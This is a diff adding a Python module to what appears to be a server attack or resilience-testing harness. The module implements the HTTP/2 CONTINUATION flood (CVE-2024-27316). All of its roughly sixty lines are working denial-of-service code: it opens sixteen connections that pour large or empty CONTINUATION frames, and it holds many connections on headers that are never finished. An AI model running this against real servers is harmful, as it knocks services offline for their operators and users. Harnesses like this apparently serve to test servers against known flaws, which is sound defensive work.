@@ -1,0 +1,60 @@
+"""Heads that go on in CONTINUATION frames and never end: at full speed, of empty frames, and of as
+many bytes as are held without an error."""
+
+from lib.attack import HTTP2, Attack, Case, scale
+from lib.frames import CONTINUATION, HEADERS, LARGEST_FRAME, frame, get, literal
+
+CONNECTIONS = 16
+# Of a client's 256.
+HELD = scale(128, 256)
+FIELD = literal(b"x-flood", b"v" * 32)
+PIECE = FIELD * (LARGEST_FRAME // len(FIELD))
+START = frame(HEADERS, 0, 1, get())
+
+
+def flood(attacker, piece):
+    """Sends this piece of a head again and again."""
+    def begin(at):
+        wire = attacker.http2(at=at)
+        if wire:
+            wire.send(START)
+        return wire
+
+    attacker.pour(CONNECTIONS, begin, frame(CONTINUATION, 0, 1, piece))
+
+
+def large(attacker):
+    flood(attacker, PIECE)
+
+
+def empty(attacker):
+    flood(attacker, b"")
+
+
+def unfinished(attacker):
+    """Some frames on each connection, then a small one from time to time."""
+    block = START + frame(CONTINUATION, 0, 1, PIECE) * 3
+
+    def begin(at):
+        wire = attacker.http2(at=at)
+        if wire and wire.send(block):
+            attacker.count("heads")
+        return wire
+
+    def another(wire, _):
+        attacker.pause(0.005)
+        return frame(CONTINUATION, 0, 1, FIELD)
+
+    attacker.flood(HELD, begin, another)
+
+
+ATTACK = Attack(
+    title="CONTINUATION flood",
+    published="CVE-2024-27316",
+    does="continues a head without an end",
+    cases=(
+        Case("large frames", HTTP2, large, {"frames": 2_000}),
+        Case("empty frames", HTTP2, empty, {"frames": 100_000}),
+        Case("unfinished heads", HTTP2, unfinished, {"heads": HELD}),
+    ),
+)
